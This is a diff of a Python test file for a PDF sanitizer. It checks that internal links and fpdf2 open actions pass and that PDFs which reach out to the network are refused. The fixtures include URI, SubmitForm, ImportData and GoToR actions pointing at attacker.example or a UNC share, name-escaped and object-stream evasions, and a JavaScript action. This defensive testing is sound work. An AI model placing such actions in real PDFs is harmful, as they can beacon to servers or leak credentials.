@@ -361,10 +361,80 @@ def test_plain_pdf_passes_byte_for_byte() -> None:
     assert result == CleanFile(content=original, format="pdf", media_type="application/pdf", pages=1)
 
 
-def test_hand_written_pdf_with_a_link_passes() -> None:
-    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://mpp.example.go.id) >> >>"
+def test_hand_written_pdf_with_an_internal_link_passes() -> None:
+    # A link to a page of the same document reaches nothing outside it (a web link is refused: NETWORK below).
+    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] >> >>"
     result = clean(one_page(b"/Lang (id)", b"/Annots [4 0 R]", link))
     assert result.pages == 1
+
+
+@pytest.mark.parametrize(
+    "catalog",
+    [
+        pytest.param(b"/OpenAction [3 0 R /FitH null]", id="direct"),
+        pytest.param(b"/OpenAction 4 0 R", id="indirect"),
+    ],
+)
+def test_an_open_action_that_only_says_where_to_open_passes(catalog: bytes) -> None:
+    # fpdf2 writes "/OpenAction [3 0 R /FitH null]" into every PDF: our own result documents have one.
+    assert clean(one_page(catalog, b"", b"[3 0 R /Fit]")).pages == 1
+
+
+def test_a_result_document_rendered_by_fpdf2_passes() -> None:
+    from fpdf import FPDF
+
+    document = FPDF()
+    document.add_page()
+    document.set_font("helvetica")
+    document.cell(text="Akta Kelahiran")
+    assert clean(bytes(document.output())).pages == 1
+
+
+def annotation(action: bytes) -> bytes:
+    return b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + action + b" >>"
+
+
+URI = b"<< /S /URI /URI (https://attacker.example/ping) >>"
+# Item 8: whatever makes a viewer open another file or talk to a server, wherever it hides.
+NETWORK = {
+    "uri_link": one_page(b"", b"/Annots [4 0 R]", annotation(URI)),
+    "uri_open_action": one_page(b"/OpenAction " + URI),
+    "open_action_goto_dictionary": one_page(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
+    "open_action_indirect_dictionary": one_page(b"/OpenAction 4 0 R", b"", b"<< /S /GoTo /D [3 0 R /Fit] >>"),
+    "gotor": one_page(b"", b"/Annots [4 0 R]", annotation(b"<< /S /GoToR /F (\\\\host\\share\\a.pdf) /D [0 /Fit] >>")),
+    "submit_form": one_page(
+        b"/AcroForm << /Fields [4 0 R] >>",
+        b"",
+        b"<< /FT /Btn /T (send) /A << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >> >>",
+    ),
+    "import_data": one_page(
+        b"", b"/Annots [4 0 R]", annotation(b"<< /S /ImportData /F (https://attacker.example/x.fdf) >>")
+    ),
+    "page_additional_action_uri": one_page(b"", b"/AA << /O 4 0 R >>", URI),
+    "uri_name_escaped": one_page(
+        b"", b"/Annots [4 0 R]", annotation(b"<< /S /U#52I /URI (https://attacker.example/) >>")
+    ),
+    "gotor_name_escaped": one_page(b"", b"/Annots [4 0 R]", annotation(b"<< /#53 /Go#54oR /F (a.pdf) >>")),
+    "open_action_name_escaped": one_page(b"/Open#41ction << /S /GoTo /D [3 0 R /Fit] >>"),
+    "uri_in_object_stream": pdf_with_object_stream(URI),
+    "submit_form_in_object_stream": pdf_with_object_stream(b"<< /S /SubmitForm /F (https://attacker.example/) >>"),
+    "uri_outside_the_xref": one_page(unlisted=b"9 0 obj\n" + URI + b"\nendobj\n"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(NETWORK))
+def test_pdfs_that_reach_the_network_are_refused(name: str) -> None:
+    error = reject(NETWORK[name], declared="application/pdf", accepted={"pdf"})
+    assert (error.code, error.status) == ("active_pdf", 422)
+
+
+def test_a_uri_written_with_pypdf_is_refused() -> None:
+    writer = pypdf_document()
+    action = DictionaryObject(
+        {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://attacker.example/")}
+    )
+    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
+    assert reject(written(writer)).code == "active_pdf"
 
 
 JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
